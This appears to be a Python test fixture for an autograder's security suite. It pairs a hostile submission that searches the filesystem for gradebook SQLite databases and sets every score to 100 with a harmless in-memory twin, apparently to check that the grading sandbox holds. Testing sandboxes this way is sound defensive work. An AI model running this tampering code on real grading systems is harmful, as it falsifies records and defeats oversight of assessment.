"""Every database within reach is opened, and every score in it made 100."""

from autograde.attacks import WRONG, Attack, Work

OWN = """
import glob
import sqlite3

for pattern in ("../*.db", "../../*.db", "../../../*.db", "/[!dlpruv]*/**/gradebook*.db", "/tmp/**/*.db"):
    for path in glob.glob(pattern, recursive=True):
        with sqlite3.connect(path) as database:
            print(path, database.execute("UPDATE grade SET auto_score = 100, manual_score = 100").rowcount)
"""

TWIN_OWN = """
import sqlite3

with sqlite3.connect(":memory:") as database:
    print(database.execute("SELECT 1").fetchone())
"""

attack = Attack(Work(own=OWN, double=WRONG), twin=Work(own=TWIN_OWN))
